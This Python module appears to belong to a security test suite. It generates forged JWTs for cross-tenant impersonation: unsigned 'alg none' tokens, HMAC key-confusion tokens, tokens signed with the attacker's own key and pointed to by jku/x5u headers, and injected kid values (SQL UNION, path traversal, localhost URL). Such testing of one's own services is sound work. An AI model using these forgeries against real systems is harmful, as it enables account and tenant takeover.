"""Tokens that nobody issued: what an attacker makes of its own token to be taken for another tenant, or for longer."""

from __future__ import annotations

import base64
import hmac
import json
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Final

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

if TYPE_CHECKING:
    from collections.abc import Iterator

    from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

    from constat.stack import Issuer

Forgery = tuple[str, str]
Claims = dict[str, Any]
_HASHES: Final = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_KIDS: Final = ("", "0", "../../../../dev/null", "/dev/null", "' UNION SELECT 'constat", "constat\x00", "http://127.0.0.1:9/key")
_HOUR: Final = 3600


@dataclass(frozen=True, kw_only=True)
class Genuine:
    """An attacker's own token taken apart, the issuer's public key, and the claims that it would like to have."""

    token: str
    header: Claims
    claims: Claims
    wanted: Claims
    public: RSAPublicKey

    @property
    def kid(self) -> str:
        """The id of the issuer's key."""
        return str(self.header.get("kid", ""))


def genuine(token: str, *, mine: dict[str, str], theirs: dict[str, str], jwks: Claims) -> Genuine:
    """Take a token apart; wherever a claim says who the attacker is, the wanted one says who the victim is."""
    header, claims = jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
    swap = {value: theirs[name] for name, value in mine.items()}
    wanted = {name: swap.get(value, value) if isinstance(value, str) else value for name, value in claims.items()}
    keys = {key["kid"]: key for key in jwks["keys"]}
    public = jwt.PyJWK(keys[header["kid"]]).key
    return Genuine(token=token, header=header, claims=claims, wanted=wanted, public=public)


def unsigned(own: Genuine) -> Iterator[Forgery]:
    """No signature at all, or the attacker's own on what it does not cover."""
    head, body, signature = own.token.split(".")
    for word in ("none", "None", "NONE", "nOnE", "", "null"):
        plain = f"{_part(own.header | {'alg': word})}.{_part(own.wanted)}"
        yield f"alg {word!r} without a signature", f"{plain}."
        yield f"alg {word!r} with one's own signature", f"{plain}.{signature}"
    yield "without a signature", f"{head}.{_part(own.wanted)}."
    yield "two parts", f"{head}.{_part(own.wanted)}"
    yield "other claims under one's own signature", f"{head}.{_part(own.wanted)}.{signature}"
    yield "two sets of claims", f"{head}.{_twice(own)}.{signature}"
    yield "claims before one's own token", f"{_part(own.wanted)}.{own.token}"
    yield "claims after one's own token", f"{own.token}.{_part(own.wanted)}"
    yield "a signature cut short", own.token[:-8]
    yield "a signature with another last letter", own.token[:-6] + ("A" if own.token[-6] != "A" else "B") + own.token[-5:]
    yield "a signature of nothing", f"{head}.{body}."
    yield "a signature of zeros", f"{head}.{_part(own.wanted)}.{'A' * len(signature)}"


def confused(own: Genuine) -> Iterator[Forgery]:
    """Signed with the public key as if it were a shared secret, in every form in which a library may hold it."""
    numbers = own.public.public_numbers()
    forms = {
        "PEM": own.public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "PEM without its last line break": own.public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).rstrip(),
        "PKCS1": own.public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "DER": own.public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "modulus": numbers.n.to_bytes((numbers.n.bit_length() + 7) // 8, "big"),
        "key id": own.kid.encode(),
    }
    for form, secret in forms.items():
        for algorithm in _HASHES if form == "PEM" else ("HS256",):
            yield f"{algorithm} with the public key as {form}", shared(own.header | {"alg": algorithm}, own.wanted, secret)
    for secret in (b"", b"secret", b"changeme", b"null"):
        yield f"HS256 with the secret {secret.decode()!r}", shared(own.header | {"alg": "HS256"}, own.wanted, secret)
    for kid in _KIDS:
        yield f"HS256 with nothing, key id {kid!r}", shared({"alg": "HS256", "typ": "JWT", "kid": kid}, own.wanted, b"")


def stranger(own: Genuine, *, address: str) -> Iterator[Forgery]:
    """Signed with a key of the attacker's own, which the token itself vouches for; `address` is the attacker's."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    heads: dict[str, Claims] = {
        "the issuer's key id": {"kid": own.kid},
        "no key id": {"kid": None},
        "a key id of its own": {"kid": "constat"},
        "itself as jwk": {"kid": own.kid, "jwk": jwk | {"kid": own.kid}},
        "itself as jwk with a key id of its own": {"kid": "constat", "jwk": jwk | {"kid": "constat"}},
        "its address as jku": {"kid": "constat", "jku": f"{address}/jwks.json"},
        "its address as x5u": {"kid": "constat", "x5u": f"{address}/cert.pem"},
        "its address as kid": {"kid": f"{address}/jwks.json"},
        "crit": {"kid": own.kid, "crit": ["constat"], "constat": True},
        "b64": {"kid": own.kid, "crit": ["b64"], "b64": False},
    }
    for how, extra in heads.items():
        header = {name: value for name, value in {"typ": "JWT", **extra}.items() if value is not None}
        yield f"another key, with {how}", _signed(key, header, own.wanted)
    yield "another key, with the issuer named as oneself", _signed(key, {"kid": own.kid}, own.wanted | {"iss": address})


def stale(own: Genuine, issuer: Issuer) -> Iterator[Forgery]:
    """Signed by the issuer itself, for another time, another service, or with something missing: the attacker's own claims."""
    key, now = load_pem_private_key(issuer.signing_key.encode(), None), int(time.time())
    changes: dict[str, Claims] = {
        "expired an hour ago": {"iat": now - 2 * _HOUR, "exp": now - _HOUR},
        "expired a minute ago": {"iat": now - _HOUR, "exp": now - 60},
        "not valid before tomorrow": {"nbf": now + 24 * _HOUR},
        "another issuer": {"iss": "https://issuer.example"},
        "an issuer that begins alike": {"iss": f"{issuer.issuer}.example"},
        "another audience": {"aud": "billing"},
        "an audience that begins alike": {"aud": f"{issuer.audience}-staging"},
        "an expiry as text": {"exp": "never"},
        **{f"no {name}": {name: None} for name in ("exp", "iss", "aud", "organization_id")},
    }
    for how, change in changes.items():
        claims = {name: value for name, value in (own.claims | change).items() if value is not None}
        yield f"of the issuer's, {how}", _signed(key, {"kid": own.kid, "typ": "JWT"}, claims)


def control(own: Genuine, issuer: Issuer) -> str:
    """The attacker's own claims, signed by the issuer as it does: this one must be let in, or the others prove nothing."""
    return _signed(load_pem_private_key(issuer.signing_key.encode(), None), {"kid": own.kid, "typ": "JWT"}, own.claims)


def shared(header: Claims, claims: Claims, secret: bytes) -> str:
    """A token with a shared secret; libraries refuse to make one of a public key."""
    plain = f"{_part(header)}.{_part(claims)}"
    return f"{plain}.{_text(hmac.digest(secret, plain.encode(), _HASHES[header['alg']]))}"


def _signed(key: Any, header: Claims, claims: Claims) -> str:
    plain = f"{_part(header | {'alg': 'RS256'})}.{_part(claims)}"
    return f"{plain}.{_text(jwt.algorithms.RSAAlgorithm(jwt.algorithms.RSAAlgorithm.SHA256).sign(plain.encode(), key))}"


def _twice(own: Genuine) -> str:
    """JSON in which the claims stand twice: readers differ in which they take."""
    first, second = json.dumps(own.claims)[:-1], json.dumps(own.wanted)[1:]
    return _text(f"{first}, {second}".encode())


def _part(value: Claims) -> str:
    return _text(json.dumps(value, separators=(",", ":")).encode())


def _text(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
